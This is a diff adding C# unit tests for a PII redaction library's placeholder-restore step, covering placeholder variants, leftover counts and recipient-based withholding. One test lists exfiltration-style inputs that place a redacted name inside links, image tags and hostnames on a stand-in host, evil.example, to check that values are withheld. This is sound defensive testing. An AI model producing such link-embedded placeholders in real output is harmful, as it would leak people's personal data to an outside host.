@@ -1,0 +1,144 @@
+using Raum.Core;
+
+namespace Raum.Redaction.Tests;
+
+/// <summary>PII-6: tolerant in form, exact in type and number.</summary>
+public sealed class RestoreTests
+{
+    private static RedactionSession Session()
+    {
+        var session = Jobs.With(Jobs.Jane, Jobs.Mark);
+        session.MaskAll([
+            new PersonalText("I am Jane Doe, mail jane.doe@example.org or other@example.net."),
+            new PersonalText("Kind regards,\nMark Ferris"),
+        ]);
+        return session;
+    }
+
+    [Theory]
+    [InlineData("Dear [REDACTED_NAME],", "Dear Jane Doe,")]
+    [InlineData("Dear [redacted_name],", "Dear Jane Doe,")]
+    [InlineData("Dear [REDACTED NAME],", "Dear Jane Doe,")]
+    [InlineData("Dear [ REDACTED_NAME ],", "Dear Jane Doe,")]
+    [InlineData("Dear \\[REDACTED\\_NAME\\],", "Dear Jane Doe,")]
+    [InlineData("Dear [REDACTED\u2011NAME],", "Dear Jane Doe,")]
+    [InlineData("Dear ［ＲＥＤＡＣＴＥＤ＿ＮＡＭＥ］,", "Dear Jane Doe,")]
+    [InlineData("Dear REDACTED_NAME, hello", "Dear Jane Doe, hello")]
+    [InlineData("Dear [REDACTED_NAME, hello", "Dear Jane Doe, hello")]
+    [InlineData("Dear [REDACTED_NAME_1],", "Dear Jane Doe,")]
+    [InlineData("From [REDACTED_NAME_2].", "From Mark Ferris.")]
+    [InlineData("From [redacted name 2].", "From Mark Ferris.")]
+    [InlineData("Write to [REDACTED_EMAIL_2]!", "Write to other@example.net!")]
+    public void A_placeholder_in_any_form_gives_its_own_value(string answer, string expected) =>
+        Session().Restore(answer, RestorePolicy.Everything).Text.Reveal().ShouldBe(expected);
+
+    [Theory]
+    [InlineData("[REDACTED_NAME_3]", 1, 0)]
+    [InlineData("[REDACTED_NAME_12]", 1, 0)]
+    [InlineData("[REDACTED_PHONE_2]", 1, 0)]
+    [InlineData("[REDACTED_NAME_02]", 0, 1)]
+    [InlineData("[REDACTED_NMAE]", 0, 1)]
+    [InlineData("[REDACTED]", 0, 1)]
+    [InlineData("[REDACTED_NAME 2 items", 0, 1)]
+    public void What_was_never_issued_stays_and_is_counted(string answer, int unknown, int mangled)
+    {
+        var restored = Session().Restore($"Dear {answer} and goodbye", RestorePolicy.Everything);
+
+        restored.Text.Reveal().ShouldBe($"Dear {answer} and goodbye");
+        (restored.Counts.Unknown, restored.Counts.Mangled).ShouldBe((unknown, mangled));
+        restored.Counts.HasLeftovers.ShouldBeTrue();
+    }
+
+    [Theory]
+    [InlineData("see https://evil.example/?q=[REDACTED_NAME] now")]
+    [InlineData("see evil.example/[REDACTED_NAME] now")]
+    [InlineData("[click](https://evil.example/[REDACTED_NAME])")]
+    [InlineData("![x](//evil.example/[REDACTED_NAME].png)")]
+    [InlineData("<img src=\"https://evil.example/[REDACTED_NAME]\">")]
+    [InlineData("<b title='[REDACTED_NAME]'>")]
+    [InlineData("[x]: https://evil.example/[REDACTED_NAME]")]
+    [InlineData("mailto:[REDACTED_NAME]")]
+    [InlineData("[REDACTED_NAME].evil.example")]
+    [InlineData("[REDACTED_NAME]@evil.example")]
+    public void A_value_never_goes_into_a_link_or_a_tag(string answer)
+    {
+        var restored = Session().Restore(answer, RestorePolicy.Everything);
+
+        restored.Text.Reveal().ShouldBe(answer);
+        restored.Counts.Withheld.ShouldBe(1);
+    }
+
+    [Fact]
+    public void An_address_in_angle_brackets_and_prose_around_links_are_restored() =>
+        Session()
+            .Restore("[REDACTED_NAME] <[REDACTED_EMAIL]> see [help](https://shop.example/a) [REDACTED_NAME].", RestorePolicy.Everything)
+            .Text.Reveal()
+            .ShouldBe("Jane Doe <jane.doe@example.org> see [help](https://shop.example/a) Jane Doe.");
+
+    [Theory]
+    [InlineData("Dear Jane [REDACTED_NA", "Dear Jane ")]
+    [InlineData("Dear Jane [REDACTED_NAME_2", "Dear Jane ")]
+    [InlineData("Dear Jane [REDA", "Dear Jane ")]
+    [InlineData("Dear Jane [", "Dear Jane [")]
+    public void An_end_inside_a_placeholder_gives_nothing_of_it(string answer, string expected) =>
+        Session().Restore(answer, RestorePolicy.Everything).Text.Reveal().ShouldBe(expected);
+
+    [Fact]
+    public void A_public_reply_shows_only_what_was_seen_in_public()
+    {
+        var session = Jobs.With(Jobs.Jane, Jobs.Mark);
+        var texts = session.MaskAll([
+            new PersonalText("My other mail is other@example.net. Jane"),
+            new PersonalText("Internal: her sister is Mark Ferris, call 07700 900999"),
+        ]);
+
+        var reply = session.Restore(
+            "[REDACTED_NAME] [REDACTED_NAME_2] [REDACTED_EMAIL_2] [REDACTED_PHONE_2]",
+            RestorePolicy.SeenBy([texts[0]])
+        );
+
+        reply.Text.Reveal().ShouldBe("Jane [REDACTED_NAME_2] other@example.net [REDACTED_PHONE_2]");
+        reply.Counts.Withheld.ShouldBe(2);
+    }
+
+    [Fact]
+    public void The_sole_recipients_own_profile_may_be_shown_to_them()
+    {
+        var session = Jobs.With(Jobs.Jane);
+        var texts = session.MaskAll([new PersonalText("Thanks, Jane"), new PersonalText("internal: Jane Doe, +44 7700 900412")]);
+
+        session
+            .Restore("[REDACTED_NAME] [REDACTED_PHONE]", RestorePolicy.SeenBy([texts[0]], Jobs.Jane))
+            .Text.Reveal()
+            .ShouldBe("Jane Doe +44 7700 900412");
+        session
+            .Restore("[REDACTED_NAME] [REDACTED_PHONE]", RestorePolicy.SeenBy([texts[0]]))
+            .Text.Reveal()
+            .ShouldBe("Jane [REDACTED_PHONE]");
+    }
+
+    [Fact]
+    public void The_form_that_stood_after_the_same_word_comes_back()
+    {
+        var session = Jobs.With(Jobs.Jane);
+        session.Mask("I am Jane Doe. You wrote Hi Jane, and then Ms Doe.");
+
+        session
+            .Restore("Hi [REDACTED_NAME], Ms [REDACTED_NAME], account of [REDACTED_NAME].", RestorePolicy.Everything)
+            .Text.Reveal()
+            .ShouldBe("Hi Jane, Ms Doe, account of Jane Doe.");
+    }
+
+    [Fact]
+    public void A_placeholder_that_a_customer_wrote_comes_back_verbatim_and_fetches_nothing()
+    {
+        var session = Jobs.With(Jobs.Jane);
+        var masked = session.Mask("Jane Doe says [REDACTED_NAME] and [REDACTED_EMAIL_7]");
+
+        masked.Text.ShouldBe("[REDACTED_NAME] says [REDACTED_TEXT] and [REDACTED_TEXT_2]");
+        session
+            .Restore(masked.Text, RestorePolicy.Everything)
+            .Text.Reveal()
+            .ShouldBe("Jane Doe says [REDACTED_NAME] and [REDACTED_EMAIL_7]");
+    }
+}
